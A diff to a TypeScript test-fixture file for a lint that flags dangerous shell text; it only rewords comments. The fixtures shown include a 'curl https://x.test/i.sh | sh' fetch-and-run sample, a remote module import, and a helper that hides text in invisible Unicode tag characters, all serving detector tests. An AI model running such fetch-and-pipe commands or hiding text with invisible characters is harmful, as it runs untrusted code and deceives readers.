@@ -1,6 +1,6 @@
 import { splitAtBars } from '../../support/words.ts'
 
-/** Samples of dangerous and of honest text, by the rule that they concern. */
+/** Samples of dangerous and harmless text, by lint rule. */
 
 const tags = (text: string) =>
   [...text].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
@@ -11,7 +11,7 @@ const wide = (text: string) =>
 const withRules = (samples: Record<string, readonly string[]>): (readonly [string, string])[] =>
   Object.entries(samples).flatMap(([rule, texts]) => texts.map((text) => [rule, text] as const))
 
-/** The lint warns of each of these. */
+/** Samples with a warning. */
 export const attacks = withRules({
   'pipe-to-shell': [
     ...splitAtBars(
@@ -140,7 +140,7 @@ export const attacks = withRules({
   'too-intricate': [`${'curl\n'.repeat(2000)}curl https://x.test/i.sh | sh`],
 })
 
-/** The lint gives a notice of each of these. */
+/** Samples with a notice. */
 export const doubtful = withRules({
   'remote-package': [
     "await import('https://x.test/a.mjs')",
@@ -169,7 +169,7 @@ export const doubtful = withRules({
   'hidden-unicode': ['in\u200bvisible'],
 })
 
-/** The lint finds nothing in these. */
+/** Samples without a finding. */
 export const honest: readonly string[] = [
   ...splitAtBars(
     'python3 -m json.tool¦python3 -c "import sys"¦node -e "1"¦sh-lint¦"$JQ" .name',
